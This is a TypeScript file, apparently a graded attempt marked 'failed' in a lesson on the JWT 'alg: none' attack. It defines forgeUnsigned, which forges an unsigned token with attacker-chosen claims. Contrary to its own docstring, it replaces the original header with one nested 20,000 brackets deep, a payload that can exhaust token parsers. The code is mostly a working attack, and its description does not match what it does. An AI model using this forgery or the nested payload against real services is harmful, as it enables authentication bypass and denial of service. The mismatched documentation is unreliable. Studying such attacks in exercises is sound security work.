// lesson: 10-alg-none
// verdict: failed
// diagnosis: nested-too-deeply
// what: returns a token whose header is nested so deeply that nothing can walk through it
import { decodeJson, encodeJson } from '../jwt/json.ts'

/**
 * Forges a token without a signature from one that was overheard: an unsecured JWT (RFC 7519 §6).
 *
 * The header stays as it is, but its `alg` becomes exactly 'none' (RFC 7518 §3.6). The claims stay as they are, with
 * `changes` over them. The signature is the empty string, and the dot before it stays. No argument is changed.
 *
 * @param token a token in compact form, whatever its algorithm
 * @param changes claims to set, at the top level; null and falsy values are values like any other
 * @returns header, payload and nothing, with dots between
 */
export function forgeUnsigned(token: string, changes: Record<string, unknown>): string {
  const [headerSegment, payloadSegment] = token.split('.') as [string, string]
  const header = { ...decodeJson(headerSegment), alg: 'none' }
  const payload = { ...decodeJson(payloadSegment), ...changes }
  const deep = `{"alg":"none","x":${'['.repeat(20_000)}${']'.repeat(20_000)}}`
  return `${header.alg && Buffer.from(deep).toString('base64url')}.${encodeJson(payload)}.`
}
